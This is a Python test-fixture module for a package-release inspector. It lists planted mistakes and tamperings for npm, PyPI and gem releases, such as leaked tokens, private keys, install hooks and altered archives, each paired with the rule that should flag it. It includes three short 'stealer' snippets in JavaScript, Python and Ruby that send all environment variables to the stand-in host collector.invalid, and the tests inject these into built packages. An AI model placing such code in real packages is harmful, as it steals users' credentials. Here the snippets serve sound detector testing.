"""Mistakes and tamperings that we planted into releases: each with the rule that stops it.

Every case is a function that changes a committed project; archives are built again unless the case changes them itself.
"""

import base64
import json
from collections.abc import Callable
from dataclasses import dataclass

from tests.cli.publish.releasing import (
    LAST,
    NEXT,
    Project,
    checked_token,
    last_gem,
    last_npm,
    last_python,
    private_key,
    random_text,
    sdist_of,
    source_map,
    wheel_of,
)
from tests.loopback import gem_file
from tests.loopback.gem_packages import metadata, packed_gem

HEX = "0123456789abcdef"
STEALER = (
    "const https = require('https');\n"
    "const os = require('os');\n"
    "const body = JSON.stringify(process.env);\n"
    "const sent = https.request({ host: 'collector.invalid', method: 'POST', path: '/' + os.hostname() });\n"
    "sent.write(body);\nsent.end();\n"
)
PYTHON_STEALER = (
    "import json, os, socket, urllib.request\n"
    "urllib.request.urlopen(urllib.request.Request('https://collector.invalid/' + socket.gethostname(), "
    "data=json.dumps(dict(os.environ)).encode()))\n"
)
RUBY_STEALER = (
    "require 'net/http'\nrequire 'json'\n"
    "Net::HTTP.post(URI('https://collector.invalid/'), ENV.to_h.to_json)\n"
)


@dataclass(frozen=True)
class Case:
    """A planted mistake or tampering."""

    id: str
    ecosystem: str
    rule: str
    """The rule that stops the release; "*" for any rule of `inspect`."""
    change: Callable[[Project], None]
    arguments: tuple[str, ...] = ()


def shipped(ecosystem: str, name: str) -> str:
    """Return a path that the archives of an ecosystem contain."""
    return {"npm": f"dist/{name}", "pypi": f"src/kite/{name}", "gem": f"lib/kite/{name}"}[ecosystem]


def adds(path: str, text: str | bytes, *, commit: bool = True) -> Callable[[Project], None]:
    """Add a file to the project, and build again."""

    def change(project: Project) -> None:
        project.write(path, text)
        if commit:
            project.commit()
        project.build()

    return change


def packs_all(path: str, text: str | bytes, ignore: str = "") -> Callable[[Project], None]:
    """Add a file to an npm project without `files`, which packs whatever no ignore file names."""

    def change(project: Project) -> None:
        project.manifest(files=None)
        manifest = json.loads((project.machine.folder / "package.json").read_text())
        del manifest["files"]
        project.write("package.json", json.dumps(manifest))
        project.write(".npmignore", ignore or "src\n")
        project.write(path, text)
        project.commit()

    return change


def secret(ecosystem: str, name: str, text: str | bytes) -> Callable[[Project], None]:
    return adds(shipped(ecosystem, name), text)


def hook(project: Project) -> None:
    project.manifest(scripts={"postinstall": "node dist/main.js"})
    project.commit()


def gyp(project: Project) -> None:
    project.manifest(files=["index.js", "dist", "binding.gyp"])
    project.write("binding.gyp", "{'targets': []}\n")
    project.commit()


def changed_hook(project: Project) -> None:
    before = {
        "package.json": json.dumps(
            {"name": "kite", "version": LAST, "scripts": {"install": "node dist/main.js"}}
        )
    }
    project.machine.registry.put_npm(last_npm(files=before))
    project.manifest(scripts={"install": "node dist/main.js && node index.js"})
    project.commit()


def setup_py(project: Project) -> None:
    project.write("setup.py", "from setuptools import setup\nsetup()\n")
    project.commit()
    project.build()


def pth(project: Project) -> None:
    project.built = {"kite.pth": "import kite.core\n"}
    wheel = wheel_of({**project.contents(top="src/")}, NEXT)
    project.write(f"dist/{wheel.filename}", wheel.data)


def gem_extension(project: Project) -> None:
    project.write("ext/kite/extconf.rb", "require 'mkmf'\ncreate_makefile('kite')\n")
    project.commit()
    project.extensions = ("ext/kite/extconf.rb",)
    project.build()


def dirty(path: str, text: str) -> Callable[[Project], None]:
    """Change a committed file without a commit, and build."""

    def change(project: Project) -> None:
        project.write(path, text)
        project.build()

    return change


def tampered(path: str, text: str) -> Callable[[Project], None]:
    """Change a file inside of the built archives only."""

    def change(project: Project) -> None:
        project.built = {path: text}
        if project.ecosystem == "pypi":
            wheel = wheel_of(project.contents(top="src/"), NEXT)
            project.write(f"dist/{wheel.filename}", wheel.data)
        else:
            project.build()

    return change


def tampered_sdist(path: str, text: str) -> Callable[[Project], None]:
    def change(project: Project) -> None:
        project.built = {path: text}
        made = sdist_of(project.contents(), NEXT)
        project.write(f"dist/{made.filename}", made.data)

    return change


def npm_archive(*, path: str, text: str) -> Callable[[Project], None]:
    """Pack an npm archive, with one file of it changed."""

    def change(project: Project) -> None:
        names = ("package.json", "index.js", "README.md", "dist/main.js")
        files = {name: (project.machine.folder / name).read_text() for name in names}
        release = last_npm().releases[0]
        made = type(release)(version=NEXT, files={**files, path: text})
        project.write("kite-1.1.0.tgz", made.pack("kite"))
        project.write(".git/info/exclude", "*.tgz\n")

    return change


def stale(project: Project) -> None:
    """Commit a change after the build."""
    project.write(
        "src/kite/core.py" if project.ecosystem == "pypi" else "lib/kite/core.rb",
        "def fly():\n    return 'repaired'\n"
        if project.ecosystem == "pypi"
        else "module Kite\n  def self.fly = 2\nend\n",
    )
    project.commit()


def moved_tag(project: Project) -> None:
    project.git("tag", "v1.1.0")
    project.write("NOTES.md", "more\n")
    project.commit()
    project.build()


def same_version(project: Project) -> None:
    project.manifest(version=LAST)
    project.commit()


def same_file(project: Project) -> None:
    made = wheel_of({**project.contents(top="src/"), "kite/extra.py": "X = 1\n"}, LAST)
    project.write(f"dist/{made.filename}", made.data)


def attested_npm(project: Project) -> None:
    project.machine.registry.put_npm(last_npm(attestations={"attestations": []}))


def trusted_npm(project: Project) -> None:
    project.machine.registry.put_npm(last_npm(trusted_publisher="github"))


def attested_python(project: Project) -> None:
    project.machine.registry.put_pypi(last_python(provenance={"version": 1, "attestation_bundles": []}))


def unnamed(project: Project) -> None:
    project.manifest(files=["index.js", "dist", "lib"])
    project.commit()
    project.write("lib/extra.js", "1\n")


def no_build(project: Project) -> None:
    before = {"package.json": json.dumps({"name": "kite", "version": LAST, "main": "dist/main.js"})}
    project.machine.registry.put_npm(last_npm(files=before))
    project.manifest(main="dist/main.js")
    project.commit()
    (project.machine.folder / "dist/main.js").rename(project.machine.folder / "dist/other.js")


def empty_wheel(project: Project) -> None:
    wheel = wheel_of({"README.md": "kite\n"}, NEXT)
    project.write(f"dist/{wheel.filename}", wheel.data)


def old_gem(project: Project) -> None:
    project.built = {"lib/kite/core.rb": "module Kite\n  def self.fly = 'old'\nend\n"}
    files = project.contents()
    project.write(f"pkg/kite-{NEXT}.gem", packed_gem(files, metadata("kite", NEXT, tuple(files))))


def published_gem(project: Project) -> None:
    files = tuple(last_gem().files)
    package = type(last_gem())(name="kite", files=(*files, gem_file("kite", NEXT, {"lib/kite.rb": "1\n"})))
    project.machine.registry.put_gem(package)


def ignored_by_git_only(project: Project) -> None:
    manifest = json.loads((project.machine.folder / "package.json").read_text())
    del manifest["files"]
    project.write("package.json", json.dumps(manifest))
    project.write(".npmignore", "src\n")
    project.write("local.json", '{"host": "build.example"}\n')
    project.commit()


AWS = "aws_secret_access_key = " + random_text("aws", 40)
ENV = f"NODE_ENV=production\nAPI_TOKEN={random_text('env', 24)}\n"
NPMRC = f"//registry.example/:_authToken={random_text('npmrc', 36)}\n"
PYPIRC = f"[pypi]\nusername = __token__\npassword = {random_text('pypirc', 40)}\n"
CREDENTIALS = f"---\n:rubygems_api_key: {random_text('gem', 40, HEX)}\n"
STRIPE = "sk_" + "live_" + random_text("stripe", 24)
SLACK = "xoxb-" + random_text("s1", 12, "0123456789") + "-" + random_text("s2", 24)
AZURE = "AccountKey=" + random_text("azure", 85) + "A=="

CASES: tuple[Case, ...] = (
    Case(
        "npm-github-token",
        "npm",
        "token-in-package",
        secret("npm", "a.js", f"const t = '{checked_token('ghp_')}'\n"),
    ),
    Case("npm-npm-token", "npm", "token-in-package", secret("npm", "a.js", f"// {checked_token('npm_')}\n")),
    Case("npm-stripe-key", "npm", "token-in-package", secret("npm", "pay.js", f"exports.key = '{STRIPE}'\n")),
    Case("npm-aws-key", "npm", "token-in-package", secret("npm", "aws.json", json.dumps({"x": AWS}))),
    Case("npm-private-key", "npm", "private-key-in-package", secret("npm", "key.pem", private_key())),
    Case(
        "npm-escaped-private-key",
        "npm",
        "private-key-in-package",
        secret("npm", "account.json", json.dumps({"private_key": private_key()})),
    ),
    Case(
        "npm-npmrc",
        "npm",
        "credentials-in-package",
        secret("npm", ".yarnrc.yml", f'npmAuthToken: "{random_text("y", 30)}"\n'),
    ),
    Case("npm-env", "npm", "credentials-in-package", packs_all(".env", ENV)),
    Case(
        "npm-token-in-source-map",
        "npm",
        "token-in-package",
        secret("npm", "m.js.map", source_map(f"const t = '{checked_token('gho_')}'")),
    ),
    Case(
        "npm-source-map",
        "npm",
        "source-map-with-source",
        secret("npm", "main.js.map", source_map("export const price = 3\n")),
    ),
    Case(
        "npm-inline-source-map",
        "npm",
        "source-map-with-source",
        secret(
            "npm",
            "in.js",
            "x\n//# sourceMappingURL=data:application/json;base64,"
            + base64.b64encode(source_map("secret()\n").encode()).decode()
            + "\n",
        ),
    ),
    Case("npm-tests", "npm", "tests-gained", packs_all("test/main.test.js", "test('flies')\n")),
    Case("npm-ci", "npm", "ci-files-gained", packs_all(".github/workflows/ci.yml", "on: push\n")),
    Case("npm-log", "npm", "leftover-files-gained", secret("npm", "debug.log", "started\n")),
    Case("npm-nested-package", "npm", "leftover-files-gained", packs_all("old/kite-0.9.0.tgz", b"\x1f\x8b")),
    Case(
        "npm-agent-settings", "npm", "leftover-files-gained", packs_all(".claude/settings.local.json", "{}\n")
    ),
    Case("npm-key-store", "npm", "key-store-in-package", secret("npm", "upload.jks", b"\xfe\xed\xfe\xed")),
    Case("npm-postinstall", "npm", "install-hook-gained", hook),
    Case("npm-binding-gyp", "npm", "install-hook-gained", gyp),
    Case("npm-changed-hook", "npm", "install-hook-changed", changed_hook),
    Case("npm-uncommitted-file", "npm", "uncommitted-file", unnamed),
    Case("npm-differs-from-commit", "npm", "differs-from-commit", dirty("index.js", "module.exports = 1\n")),
    Case("npm-changed-source", "npm", "changed-source-tree", dirty("src/main.ts", "export const fly = 1\n")),
    Case("npm-npmignore-hides-gitignore", "npm", "ignored-file-gained", ignored_by_git_only),
    Case(
        "npm-changed-archive",
        "npm",
        "archive-differs-from-folder",
        npm_archive(path="dist/main.js", text="exports.fly = 2\n"),
        ("kite-1.1.0.tgz",),
    ),
    Case(
        "npm-added-to-archive",
        "npm",
        "file-without-source",
        npm_archive(path="lib/extra.js", text="1\n"),
        ("kite-1.1.0.tgz",),
    ),
    Case(
        "npm-hook-in-archive",
        "npm",
        "install-hook-gained",
        npm_archive(
            path="package.json",
            text=json.dumps({"name": "kite", "version": NEXT, "scripts": {"preinstall": "node index.js"}}),
        ),
        ("kite-1.1.0.tgz",),
    ),
    Case("npm-moved-tag", "npm", "tag-is-another-commit", moved_tag),
    Case("npm-same-version", "npm", "already-published", same_version),
    Case("npm-lost-attestation", "npm", "provenance-lost", attested_npm),
    Case("npm-lost-trusted-publisher", "npm", "provenance-lost", trusted_npm),
    Case("npm-forgotten-build", "npm", "entry-missing", no_build),
    Case("npm-stealer-in-build", "npm", "*", lambda project: project.write("dist/main.js", STEALER)),
    Case(
        "pypi-github-token",
        "pypi",
        "token-in-package",
        secret("pypi", "conf.py", f"TOKEN = '{checked_token('ghs_')}'\n"),
    ),
    Case("pypi-slack-token", "pypi", "token-in-package", secret("pypi", "conf.py", f"TOKEN = '{SLACK}'\n")),
    Case("pypi-private-key", "pypi", "private-key-in-package", secret("pypi", "id.pem", private_key())),
    Case("pypi-pypirc", "pypi", "credentials-in-package", adds(".pypirc", PYPIRC)),
    Case(
        "pypi-source-map",
        "pypi",
        "source-map-with-source",
        secret("pypi", "static/app.js.map", source_map("export const price = 3\n")),
    ),
    Case(
        "pypi-tests-beside-package",
        "pypi",
        "tests-gained",
        adds("src/tests/test_core.py", "def test(): pass\n"),
    ),
    Case(
        "pypi-database", "pypi", "leftover-files-gained", secret("pypi", "dev.sqlite3", b"SQLite format 3\0")
    ),
    Case("pypi-terraform-state", "pypi", "leftover-files-gained", adds("infra/terraform.tfstate", "{}\n")),
    Case("pypi-setup-py", "pypi", "install-hook-gained", setup_py),
    Case("pypi-pth", "pypi", "install-hook-gained", pth),
    Case(
        "pypi-uncommitted-module",
        "pypi",
        "uncommitted-file",
        adds("src/kite/extra.py", "X = 1\n", commit=False),
    ),
    Case(
        "pypi-differs-from-commit",
        "pypi",
        "differs-from-commit",
        dirty("src/kite/core.py", "def fly():\n    return 3\n"),
    ),
    Case(
        "pypi-ignored-file", "pypi", "ignored-file-gained", adds("src/kite/local.json", "{}\n", commit=False)
    ),
    Case(
        "pypi-changed-wheel",
        "pypi",
        "archive-differs-from-folder",
        tampered("kite/core.py", "def fly():\n    return 4\n"),
    ),
    Case(
        "pypi-changed-sdist",
        "pypi",
        "archive-differs-from-folder",
        tampered_sdist("src/kite/core.py", "def fly():\n    return 4\n"),
    ),
    Case("pypi-stale-build", "pypi", "archive-differs-from-folder", stale),
    Case("pypi-added-to-wheel", "pypi", "file-without-source", tampered("kite/extra.py", "X = 1\n")),
    Case("pypi-stealer-in-wheel", "pypi", "*", tampered("kite/__init__.py", PYTHON_STEALER)),
    Case("pypi-moved-tag", "pypi", "tag-is-another-commit", moved_tag),
    Case("pypi-same-file", "pypi", "already-published", same_file),
    Case("pypi-lost-attestation", "pypi", "provenance-lost", attested_python),
    Case("pypi-empty-wheel", "pypi", "entry-missing", empty_wheel),
    Case("gem-azure-key", "gem", "token-in-package", secret("gem", "conf.rb", f"KEY = '{AZURE}'\n")),
    Case("gem-credentials", "gem", "credentials-in-package", adds(".gem/credentials", CREDENTIALS)),
    Case(
        "gem-private-key",
        "gem",
        "private-key-in-package",
        adds("certs/gem-private_key.pem", private_key("gem")),
    ),
    Case(
        "gem-source-map",
        "gem",
        "source-map-with-source",
        adds("app/assets/app.js.map", source_map("export const price = 3\n")),
    ),
    Case("gem-tests", "gem", "tests-gained", adds("spec/kite_spec.rb", "RSpec.describe Kite\n")),
    Case("gem-coverage", "gem", "leftover-files-gained", adds("coverage/.last_run.json.bak", "{}\n")),
    Case("gem-extension", "gem", "install-hook-gained", gem_extension),
    Case("gem-plugin", "gem", "install-hook-gained", adds("lib/rubygems_plugin.rb", "require 'kite'\n")),
    Case(
        "gem-uncommitted-file", "gem", "uncommitted-file", adds("lib/kite/extra.rb", "X = 1\n", commit=False)
    ),
    Case(
        "gem-differs-from-commit",
        "gem",
        "differs-from-commit",
        dirty("lib/kite/core.rb", "module Kite\nend\n"),
    ),
    Case("gem-ignored-file", "gem", "ignored-file-gained", adds("lib/kite/local.json", "{}\n", commit=False)),
    Case("gem-changed-archive", "gem", "archive-differs-from-folder", old_gem),
    Case("gem-stale-build", "gem", "archive-differs-from-folder", stale),
    Case("gem-added-to-archive", "gem", "file-without-source", tampered("lib/kite/added.rb", "X = 1\n")),
    Case("gem-stealer", "gem", "*", tampered("lib/kite.rb", RUBY_STEALER)),
    Case("gem-published", "gem", "already-published", published_gem),
)
